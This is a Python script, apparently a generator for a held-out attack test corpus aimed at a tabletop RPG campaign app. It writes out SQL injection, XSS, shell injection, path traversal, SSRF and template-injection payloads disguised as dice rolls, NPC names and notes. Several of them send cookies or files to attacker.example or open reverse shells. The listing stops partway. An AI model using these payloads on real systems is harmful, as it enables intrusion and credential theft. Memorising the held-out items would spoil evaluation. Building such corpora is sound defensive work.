"""Attack held-out corpus for the ttrpg theme (tabletop RPG campaign manager).

Each value is a working payload for an app that places the field where the
class says (SQL string/number context, shell line, file path, fetched URL,
server-side template, unescaped HTML, log line/header, LDAP/XPath filter...),
mostly hidden inside dice notation, stat blocks, macros, NPC names and session
notes.  All payloads are hand-written for this corpus from an understanding of
each technique; a few small templates wrap hand-written payloads in
hand-written domain prefixes or apply one encoding.  Output: attacks.jsonl.
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 9902
PREFIX = "ha99"

# ------------------------------------------------------------------ sqli
SQLI = [
    ("dice-union-select", "1d20+5' UNION SELECT username, password_hash FROM users-- -"),
    ("dice-boolean", "2d6+3' OR '1'='1"),
    ("dice-numeric-boolean", "20 OR 1=1"),
    ("dice-time-blind", "4d6kh3' AND SLEEP(5)-- -"),
    ("dice-time-blind", "1d8'||pg_sleep(6)||'"),
    ("dice-stacked-query", "3d8+4'; DROP TABLE characters;--"),
    ("npc-boolean", "Gr''thak' OR 'a'='a"),
    ("npc-comment-truncation", "D''Arcy'-- "),
    ("npc-union-select", "O''Malley' UNION ALL SELECT NULL, email, api_token FROM players#"),
    ("npc-error-based", "Zhae''lyn' AND extractvalue(1, concat(0x7e, (SELECT version())))-- -"),
    ("npc-error-based", "Vrak''tor' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("statblock-numeric-union", "15 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()"),
    ("statblock-numeric-time", "27 AND (SELECT 1 FROM (SELECT SLEEP(7))x)"),
    ("statblock-order-by-probe", "16 ORDER BY 9-- -"),
    ("statblock-boolean-blind", "14 AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'"),
    ("statblock-case-blind", "12 AND 1=(CASE WHEN (SELECT COUNT(*) FROM gm_secrets)>0 THEN 1 ELSE 1/0 END)"),
    ("notes-stacked-query", "Session 12 recap'); UPDATE users SET role='gm' WHERE name='mira';--"),
    ("notes-insert-subquery", "Good session', (SELECT password_hash FROM users WHERE username='admin'))-- -"),
    ("notes-stacked-query", "The party rested.'; INSERT INTO campaign_members(campaign_id,user_id,role) VALUES (1,42,'owner');--"),
    ("notes-stacked-mssql", "lost the horses'; EXEC xp_cmdshell 'ping -n 3 203.0.113.9';--"),
    ("search-like-escape", "%' AND 1=0 UNION SELECT id, secret_notes, NULL FROM campaigns WHERE '%'='"),
    ("search-union-select", "fireball' UNION SELECT name, sql FROM sqlite_master--"),
    ("search-boolean-blind", "owlbear' AND (SELECT substr(password,1,1) FROM users LIMIT 1)='$'--"),
    ("search-time-blind", "mimic' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("search-oob-dns", "lich'; SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), '.sql.attacker.example\\\\a'))-- -"),
    ("item-union-select", "Cloak of Protection' UNION SELECT 1, @@version, user(), 4-- -"),
    ("item-stacked-pg", "Bag of Holding'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/x|sh';--"),
    ("item-into-outfile", "Wand of Web' UNION SELECT '<?php system($_GET[0]); ?>' INTO OUTFILE '/var/www/html/dice.php'-- -"),
    ("loot-numeric-stacked", "250; DELETE FROM loot WHERE campaign_id <> 0"),
    ("loot-numeric-union", "-1 UNION SELECT card_number, NULL FROM payment_methods"),
    ("loot-boolean", "1d6×10 gp' OR 1=1 LIMIT 1 OFFSET 3-- -"),
    ("init-order-by-injection", "initiative DESC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)"),
    ("init-order-by-time", "(SELECT 1 FROM (SELECT SLEEP(4))a)"),
    ("init-limit-injection", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("init-numeric-boolean", "22 AND 8=8"),
    ("macro-union-select", "/r 1d20+@{dex_mod}' UNION SELECT session_token FROM sessions-- -"),
    ("macro-stacked-query", "[[1d6]]'); DROP TABLE macros; --"),
    ("spell-error-based", "Counterspell' AND updatexml(null, concat(0x3a, (SELECT password FROM users LIMIT 0,1)), null)-- -"),
    ("spell-boolean", "Magic Missile' OR ''='"),
    ("spell-sqlite-blind", "Shield' AND unicode(substr((SELECT password FROM users),1,1))>77--"),
    ("login-auth-bypass", "dungeonmaster'--"),
    ("login-auth-bypass", "admin' OR 1=1 LIMIT 1#"),
    ("login-auth-bypass", "x' OR username LIKE 'gm%"),
    ("json-key-union", "{\"sort\": \"name' UNION SELECT api_key FROM integrations--\"}"),
    ("csv-import-stacked", "Brom,Dwarf,Fighter,5'); DROP TABLE party;--"),
    ("notes-double-query-error", "Recap' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT user()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- -"),
    ("npc-oracle-union", "Sir Aldous' UNION SELECT username, password FROM all_users WHERE ROWNUM=1--"),
    ("npc-oracle-time", "Pembrook' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
    ("npc-mssql-time", "Ms. N''dora'; WAITFOR DELAY '0:0:6';--"),
    ("statblock-second-order", "Kael'-- (saved now, used in the party roster query later)"),
    ("dice-conditional-error", "1d20' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100, SLEEP(3), 0)-- -"),
    ("dice-having-probe", "2d4' HAVING 1=1--"),
    ("tag-json-path", "combat') OR json_extract(settings, '$.gm_password') IS NOT NULL--"),
    ("plain-union-select", "' UNION SELECT NULL, NULL, table_name FROM information_schema.tables-- -"),
    ("plain-boolean", "' OR 'x'='x"),
    ("plain-time-blind", "'; SELECT pg_sleep(8);--"),
    ("plain-stacked-query", "1; TRUNCATE TABLE audit_log"),
    ("plain-error-based", "' AND 1=CAST((SELECT current_user) AS int)--"),
    ("plain-auth-bypass", "' OR 1=1-- -"),
    ("plain-order-by-probe", "1' ORDER BY 5-- -"),
    ("dice-union-select+comment-space", "1d6'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/users#"),
    ("npc-boolean+case-mix", "Gr''nok' oR 'Z'='Z"),
    ("item-union-select+versioned-comment", "Dagger' /*!50000UNION*/ /*!50000SELECT*/ 1,2,password FROM users-- -"),
    ("statblock-union+inline-comment", "13/*AC*/UnIoN/*x*/sElEcT/*x*/1,token,3/*x*/FrOm/*x*/sessions"),
    ("search-boolean+fullwidth-quote", "ogre\uff07 OR \uff071\uff07=\uff071"),
    ("dice-union+urlencode", "1d20%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-"),
    ("npc-boolean+double-urlencode", "D%2527%2527Arcy%2527%2520OR%2520%25271%2527%253D%25271"),
    ("notes-char-function", "rest'; SELECT CHAR(115,104,111,119) || (SELECT string_agg(passwd, ',') FROM pg_shadow);--"),
    ("loot-hex-literal", "0 UNION SELECT 0x61646d696e, password FROM users WHERE name=0x676d"),
]
SQLI_WRAP = ["Session note: ", "Loot: ", "Roll: ", "HP ", "Tag: "]
SQLI_CORE = [
    "' UNION SELECT email, password_hash FROM users-- -",
    "' AND SLEEP(6)-- -",
    "'; DROP TABLE sessions;--",
    "' OR 2>1-- ",
    "' AND 1=(SELECT COUNT(*) FROM users WHERE is_admin=1)-- -",
]


def t_sqli(rng):
    return "notes-wrapped-payload", rng.choice(SQLI_WRAP) + rng.choice(["Kael", "Brom", "Mira", "Ilsa"]) + rng.choice(SQLI_CORE)


# ------------------------------------------------------------------ xss
XSS = [
    ("npc-script-tag", "Gr'thak<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("npc-img-onerror", "D'Arcy <img src=x onerror=alert(document.domain)>"),
    ("notes-svg-onload", "Session 4 recap <svg onload=\"new Image().src='//attacker.example/s?'+localStorage.token\">"),
    ("notes-iframe-srcdoc", "Map: <iframe srcdoc=\"<script>parent.location='https://attacker.example/'+parent.document.cookie</script>\"></iframe>"),
    ("notes-details-ontoggle", "<details open ontoggle=alert(1)><summary>Spoilers (GM only)</summary></details>"),
    ("spell-attribute-breakout", "Fireball\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("spell-attribute-breakout", "Sleep' autofocus onfocus='fetch(`//attacker.example/?k=${document.cookie}`)"),
    ("spell-textarea-breakout", "</textarea><script>alert('spellbook')</script>"),
    ("spell-title-breakout", "</title><img src=1 onerror=alert(2)>"),
    ("item-javascript-url", "javascript:alert(document.cookie)//Cloak of Elvenkind"),
    ("item-anchor-href", "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">Bag of Holding (click to open)</a>"),
    ("item-data-url", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("item-popover-onbeforetoggle", "<div popover id=p onbeforetoggle=alert(1)>Ring of Warmth</div><button popovertarget=p>open</button>"),
    ("macro-script-in-template", "&{template:default} {{name=<script>alert(1)</script>}} {{attack=[[1d20+5]]}}"),
    ("macro-img-onerror", "/em casts <img src=/ onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">"),
    ("macro-desc-svg", "/desc <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("dice-js-string-breakout", "1d20+5';alert(document.cookie);//"),
    ("dice-js-string-breakout", "2d6\";fetch('https://attacker.example/r?c='+document.cookie);//"),
    ("dice-js-template-breakout", "4d6kh3`;alert(1);`"),
    ("dice-script-close", "1d8</script><script>alert(1)</script>"),
    ("statblock-body-onload", "<body onload=alert('AC 15')>"),
    ("statblock-input-autofocus", "<input autofocus onfocus=alert(1) value=\"HP 27\">"),
    ("statblock-marquee", "<marquee onstart=alert(1)>STR 16 (+3)</marquee>"),
    ("statblock-video-onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("loot-table-html", "<table><tr><td>d6</td><td><img src=x onerror=this.src='//attacker.example/?'+document.cookie></td></tr></table>"),
    ("loot-math-href", "<math><mtext><a href=\"javascript:alert(1)\">2d6 gp</a></mtext></math>"),
    ("loot-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("loot-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">"),
    ("init-form-action", "<form action=\"https://attacker.example/steal\"><input name=password placeholder=\"Re-enter password to roll initiative\"></form>"),
    ("init-button-formaction", "<button formaction=javascript:alert(1)>Next turn</button>"),
    ("init-audio-onerror", "Goblin 12 <audio src=x onerror=alert(1)>"),
    ("handout-markdown-link", "[Open the treasure map](javascript:alert(document.cookie))"),
    ("handout-markdown-image", "![map](x\" onerror=\"alert(1))"),
    ("handout-svg-upload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><circle r=\"40\"/></svg>"),
    ("handout-dom-clobbering", "<form id=config><input name=apiBase value=\"https://attacker.example/\"></form>"),
    ("chat-angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("chat-vue-template", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("chat-noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("chat-mutation-xss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("chat-srcset", "<img srcset=\",,,,x\" onerror=alert(1)>"),
    ("chat-onerror-string-concat", "<img src=x:x onerror=top[\"al\"+\"ert\"](1)>"),
    ("json-html-breakout", "\"}]</script><script>alert(1)</script>"),
    ("portrait-url-javascript", "javascript://%0Aalert(document.cookie)"),
    ("portrait-url-attribute", "https://cdn.example/portrait.png\" onerror=\"alert(1)"),
    ("npc-css-injection", "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>"),
    ("notes-link-target", "<a href=\"https://attacker.example/login\" target=_blank>Roll20 re-login required</a><img src=x onerror=opener.location='https://attacker.example'>"),
    ("notes-setTimeout-string", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
    ("notes-import-module", "<script type=module>import('https://attacker.example/x.js')</script>"),
    ("notes-svg-set-handler", "<svg><set attributeName=onmouseover to=alert(1)>"),
    ("spell-select-autofocus", "<select autofocus onfocus=alert(1)><option>1st level</option></select>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(document.domain)>"),
    ("plain-javascript-url", "javascript:alert(1)"),
    ("plain-attribute-breakout", "\"><script>alert(1)</script>"),
    ("plain-iframe-src", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("npc-script+html-entities", "&lt;script&gt;alert(1)&lt;/script&gt; Gr'thak"),
    ("item-href+entity-encoded-scheme", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Wand</a>"),
    ("item-href+tab-in-scheme", "<a href=\"java\tscript:alert(1)\">Potion</a>"),
    ("notes-script+case-mix", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
    ("notes-img+urlencode", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("notes-svg+double-urlencode", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("chat-img-onerror+js-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("character-json-script+unicode-escape", "{\"name\": \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\", \"class\": \"Bard\"}"),
    ("statblock-onerror+hex-entities", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("macro-img+fullwidth", "\uff1cimg src=x onerror=alert(1)\uff1e"),
]
XSS_WRAP = ["Gr'thak ", "Session 9: ", "Bag of Holding ", "AC 15 ", "/em ", "1d20+3 "]
XSS_CORE = [
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "<script src=https://attacker.example/hook.js></script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>map</a>",
]


def t_xss(rng):
    return "notes-wrapped-payload", rng.choice(XSS_WRAP) + rng.choice(XSS_CORE)


# ------------------------------------------------------------------ cmdi
CMDI = [
    ("dice-semicolon", "2d6+3; cat /etc/passwd"),
    ("dice-pipe", "1d20 | nc 203.0.113.5 4444 -e /bin/sh"),
    ("dice-and-chain", "4d6kh3 && curl -s http://attacker.example/p.sh | sh"),
    ("dice-or-chain", "1d100 || wget -qO- http://198.51.100.12/x | bash"),
    ("dice-subshell", "$(id)d6"),
    ("dice-backtick", "`whoami`d20+1"),
    ("dice-newline", "1d8\nid"),
    ("dice-ifs-space", "1d6;cat${IFS}/etc/shadow"),
    ("dice-brace-expansion", "1d4;{cat,/etc/passwd}"),
    ("npc-quote-breakout", "Gr'\\''thak'; sleep 10; echo '"),
    ("npc-double-quote-breakout", "D\"Arcy\"; id > /tmp/o; echo \""),
    ("npc-subshell", "$(curl http://attacker.example/$(whoami))"),
    ("portrait-filename-semicolon", "portrait.png; rm -rf /srv/uploads/*"),
    ("portrait-filename-subshell", "token_$(nslookup `hostname`.attacker.example).png"),
    ("portrait-convert-args", "-write /var/www/html/shell.php portrait.png"),
    ("handout-pdf-option-injection", "--checkpoint=1 --checkpoint-action=exec=sh\\ x.sh"),
    ("export-filename-pipe", "campaign_backup.zip | bash -i >& /dev/tcp/203.0.113.44/9001 0>&1"),
    ("export-filename-newline", "session-notes.md\ncurl http://attacker.example/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x"),
    ("map-render-backtick", "dungeon_level_2`ping -c 4 198.51.100.3`.png"),
    ("map-render-windows-amp", "dungeon.png & powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("map-render-windows-pipe", "map.jpg | type C:\\Windows\\win.ini"),
    ("audio-ffmpeg-args", "tavern.ogg; ffmpeg -i /etc/passwd -f data http://attacker.example/up"),
    ("statblock-semicolon", "AC 15; uname -a"),
    ("statblock-process-substitution", "HP 27 <(curl attacker.example/s)"),
    ("item-semicolon-perl", "Wand of Sparks; perl -e 'system(\"id\")'"),
    ("item-python-oneliner", "Flask; python3 -c 'import os;os.system(\"id\")'"),
    ("notes-heredoc", "recap.txt; bash <<EOF\ncurl attacker.example/k | sh\nEOF"),
    ("notes-env-var-exfil", "notes; curl -d \"$(env)\" https://attacker.example/env"),
    ("notes-xargs", "notes; ls /home | xargs -I{} cat /home/{}/.ssh/id_rsa"),
    ("init-sort-arg", "-k1,1nr --compress-program=sh"),
    ("init-find-exec", "init.csv -exec sh -c 'id>/tmp/p' ;"),
    ("macro-git-ssh-option", "-oProxyCommand=curl${IFS}attacker.example|sh"),
    ("macro-shell-glob", "/r 1d20; /???/??t /???/p??s??"),
    ("macro-subshell", "/r 1d20+$(cat /etc/hostname)"),
    ("loot-semicolon-mail", "gems; mail -s loot attacker@attacker.example < /etc/passwd"),
    ("loot-dollar-brace", "1d6×10 gp ${PATH:0:1}bin${PATH:0:1}id"),
    ("spell-tee-write", "Counterspell; echo '<?php system($_GET[c]);' | tee /var/www/html/s.php"),
    ("spell-crontab", "Alarm; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -"),
    ("import-url-git", "https://github.example/repo.git --upload-pack='touch /tmp/pwn'"),
    ("import-url-curl-option", "-o /var/www/html/x.php http://attacker.example/x.txt"),
    ("import-url-wget-option", "--post-file=/etc/passwd http://attacker.example/"),
    ("ping-host-semicolon", "vtt.example.org; cat /proc/self/environ"),
    ("ping-host-newline", "203.0.113.20\nsh -c 'id'"),
    ("ping-host-windows", "127.0.0.1 & net user"),
    ("ping-host-windows-caret", "127.0.0.1 | w^h^o^a^m^i"),
    ("tts-voice-quote", "Elder Dragon\" ; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.8 443 >/tmp/f ; echo \""),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(sleep 7)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and-chain", "&& whoami"),
    ("plain-newline", "\nid\n"),
    ("plain-or-chain", "|| id"),
    ("dice-semicolon+urlencode", "2d6%3Bcat%20%2Fetc%2Fpasswd"),
    ("dice-newline+urlencode", "1d20%0Awget%20http%3A%2F%2Fattacker.example%2Fs%20-O%20%2Ftmp%2Fs"),
    ("npc-quote-obfuscation", "Brom; w'h'o'a'm'i"),
    ("npc-backslash-obfuscation", "Brom; c\\at /e\\tc/pa\\sswd"),
    ("macro-base64-pipe", "/r 1d6; echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo | base64 -d | sh"),
    ("statblock-hex-printf", "HP 27; $(printf '\\x69\\x64')"),
    ("map-render-windows+case-mix", "map.png & PoWeRsHeLl -EnC dwBoAG8AYQBtAGkA"),
]
CMDI_WRAP = ["1d20+5", "portrait_Mira.png", "session-12.md", "Brom_Ironfist", "loot.csv"]
CMDI_CORE = ["; curl http://attacker.example/i | sh", " | id", " && sleep 9", " `cat /etc/passwd`", "$(nc 198.51.100.7 80 -e sh)"]


def t_cmdi(rng):
    return "filename-wrapped-payload", rng.choice(CMDI_WRAP) + rng.choice(CMDI_CORE)


# ------------------------------------------------------------------ traversal
TRAV = [
    ("handout-relative", "../../../../etc/passwd"),
    ("handout-relative", "maps/../../../../../../etc/shadow"),
    ("handout-absolute", "/etc/passwd"),
    ("handout-absolute-proc", "/proc/self/environ"),
    ("handout-relative-app-config", "../../config/settings.py"),
    ("handout-relative-dotenv", "../../../.env"),
    ("handout-nested-strip-bypass", "....//....//....//etc/passwd"),
    ("handout-nested-strip-bypass", "..././..././..././etc/hosts"),
    ("handout-null-byte", "../../../../etc/passwd%00.png"),
    ("handout-null-byte", "../../../etc/passwd\u0000.pdf"),
    ("portrait-windows-backslash", "..\\..\\..\\windows\\win.ini"),
    ("portrait-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("portrait-windows-unc", "\\\\203.0.113.15\\share\\portrait.png"),
    ("portrait-mixed-slashes", "..\\../..\\../etc/passwd"),
    ("portrait-prefix-check-bypass", "/srv/campaigns/uploads/../../../etc/passwd"),
    ("export-zip-slip", "../../../../var/www/html/maps.php"),
    ("export-zip-slip", "characters/../../../../home/app/.ssh/authorized_keys"),
    ("export-filename-absolute-write", "/etc/cron.d/loot_backup"),
    ("sheet-template-relative", "../../templates/admin/base.html"),
    ("sheet-template-absolute", "/var/lib/postgresql/data/pg_hba.conf"),
    ("sheet-include-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("sheet-include-file-scheme", "file:///etc/passwd"),
    ("theme-relative-ssh", "../../../../root/.ssh/id_rsa"),
    ("theme-relative-git", "../../.git/config"),
    ("theme-relative-logs", "../../../../var/log/nginx/access.log"),
    ("soundboard-proc-fd", "/proc/self/fd/3"),
    ("soundboard-proc-cmdline", "../../../../proc/1/cmdline"),
    ("dice-skin-relative", "dice-skins/../../../../etc/group"),
    ("npc-token-relative", "tokens/Gr'thak/../../../../../etc/passwd"),
    ("module-import-relative", "modules/lost-mine/../../../../app/secrets.yaml"),
    ("plain-relative", "../../../../../../etc/passwd"),
    ("plain-windows-relative", "..\\..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-proc", "/proc/self/cwd/app.py"),
    ("plain-dotenv", "../../../../../app/.env"),
    ("handout-relative+urlencode", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("handout-relative+double-urlencode", "..%252F..%252F..%252Fetc%252Fpasswd"),
    ("handout-dots+urlencode", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("portrait-relative+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("portrait-relative+overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("portrait-backslash+urlencode", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("handout-relative+unicode-slash", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("theme-relative+fullwidth-dots", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
]
TRAV_DIRS = ["maps/", "handouts/", "tokens/", "sounds/", "sheets/"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "app/.env", "root/.bash_history", "etc/ssh/sshd_config"]


def t_trav(rng):
    depth = rng.randint(3, 8)
    return "handout-relative-depth", rng.choice(TRAV_DIRS) + "../" * depth + rng.choice(TRAV_TARGETS)


# ------------------------------------------------------------------ ssrf
SSRF = [
    ("portrait-url-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("portrait-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("portrait-url-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("portrait-url-loopback", "http://127.0.0.1:8080/admin/users"),
    ("portrait-url-localhost", "http://localhost:6379/"),
    ("portrait-url-ipv6-loopback", "http://[::1]:5000/internal/flags"),
    ("portrait-url-zero", "http://0.0.0.0:9200/_cat/indices"),
    ("import-url-internal-host", "http://campaign-db.internal:5432/"),
    ("import-url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("import-url-docker-socket", "http://127.0.0.1:2375/containers/json"),
    ("import-url-consul", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("import-url-rfc1918", "http://10.0.0.5/server-status"),
    ("import-url-rfc1918", "http://192.168.1.1/cgi-bin/luci"),
    ("import-url-rfc1918", "http://172.17.0.1:8000/debug/vars"),
    ("handout-url-file-scheme", "file:///srv/app/config/database.yml"),
    ("handout-url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A"),
    ("handout-url-dict", "dict://127.0.0.1:11211/stats"),
    ("handout-url-ftp-internal", "ftp://10.1.2.3/backups/campaigns.sql"),
    ("handout-url-ldap", "ldap://127.0.0.1:389/dc=example,dc=org"),
    ("map-url-userinfo-confusion", "https://cdn.rpg.example@169.254.169.254/latest/user-data"),
    ("map-url-fragment-confusion", "http://127.0.0.1:8080#@maps.rpg.example/dungeon.png"),
    ("map-url-backslash-confusion", "https://maps.rpg.example\\@127.0.0.1:8080/"),
    ("map-url-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("map-url-dns-rebinding", "http://rebind.attacker.example/portrait.png"),
    ("map-url-wildcard-dns", "http://127.0.0.1.nip.attacker.example/admin"),
    ("webhook-url-internal", "http://localhost/api/admin/campaigns/1/delete"),
    ("webhook-url-metadata-v2", "http://169.254.169.254/latest/api/token"),
    ("webhook-url-elasticsearch", "http://127.0.0.1:9200/_all/_search?q=password"),
    ("vtt-sync-url-jar", "jar:http://attacker.example/evil.jar!/dice.png"),
    ("vtt-sync-url-netdoc", "netdoc:///etc/hosts"),
    ("vtt-sync-url-php-expect", "expect://id"),
    ("audio-url-oob", "http://198.51.100.23:8000/collect?src=audio"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-file", "file:///proc/self/environ"),
    ("plain-gopher", "gopher://localhost:25/_HELO%20x"),
    ("plain-localhost", "http://localhost:8080/admin"),
    ("portrait-url+decimal-ip", "http://2130706433/admin"),
    ("portrait-url+hex-ip", "http://0x7f000001:8080/"),
    ("portrait-url+octal-ip", "http://0177.0.0.1/server-status"),
    ("portrait-url+short-ip", "http://127.1/"),
    ("portrait-url+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("portrait-url+decimal-metadata", "http://2852039166/latest/meta-data/"),
    ("import-url+mixed-notation-ip", "http://0xa9.254.0251.254/latest/meta-data/"),
    ("import-url+urlencoded-host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/"),
    ("map-url+enclosed-alnum", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"),
]
SSRF_PORTS = [22, 25, 3306, 5432, 6379, 8080, 9000, 11211, 27017]
SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.1", "169.254.169.254", "[::1]"]


def t_ssrf(rng):
    return "portrait-url-port-scan", f"http://{rng.choice(SSRF_HOSTS)}:{rng.choice(SSRF_PORTS)}/portrait.png"


# ------------------------------------------------------------------ code
CODE = [
    ("notes-ssti-jinja-probe", "Recap: the party dealt {{7*191}} damage"),
    ("notes-ssti-jinja-rce", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("notes-ssti-jinja-rce", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("notes-ssti-jinja-config", "{{ config.items() }}"),
    ("notes-ssti-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("notes-ssti-jinja-attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("npc-ssti-jinja-lipsum", "Gr'thak {{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("macro-ssti-twig", "{{['id']|filter('system')}}"),
    ("macro-ssti-twig-env", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("macro-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("macro-ssti-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")"),
    ("macro-ssti-erb", "<%= `cat /etc/passwd` %>"),
    ("macro-ssti-erb", "<%= system('curl attacker.example/r|sh') %>"),
    ("macro-ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("macro-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("macro-ssti-smarty", "{system('id')}"),
    ("macro-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{this.bind (lookup string.sub \"constructor\") \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("spell-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("spell-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("spell-ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("spell-ssti-django-debug", "{% debug %}"),
    ("spell-ssti-django-settings", "{{ settings.SECRET_KEY }}"),
    ("statblock-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("statblock-spel-thymeleaf", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"),
    ("statblock-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("statblock-jsp-el", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("statblock-mvel", "Runtime.getRuntime().exec(\"touch /tmp/mvel\")"),
    ("dice-python-eval", "__import__('os').system('id')"),
    ("dice-python-eval", "0 or __import__('subprocess').check_output(['cat','/etc/passwd']).decode()"),
    ("dice-python-eval-builtins", "().__class__.__bases__[0].__subclasses__()"),
    ("dice-js-eval", "require('child_process').execSync('id').toString()"),
    ("dice-js-eval", "2*6+this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("dice-php-eval", "1+1;system('id');//d6"),
    ("dice-ruby-eval", "8 + `id`.length"),
    ("notes-log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("npc-log4shell", "Gr'thak ${jndi:rmi://203.0.113.66:1099/Exploit}"),
    ("notes-log4shell-nested", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://198.51.100.4/x}"),
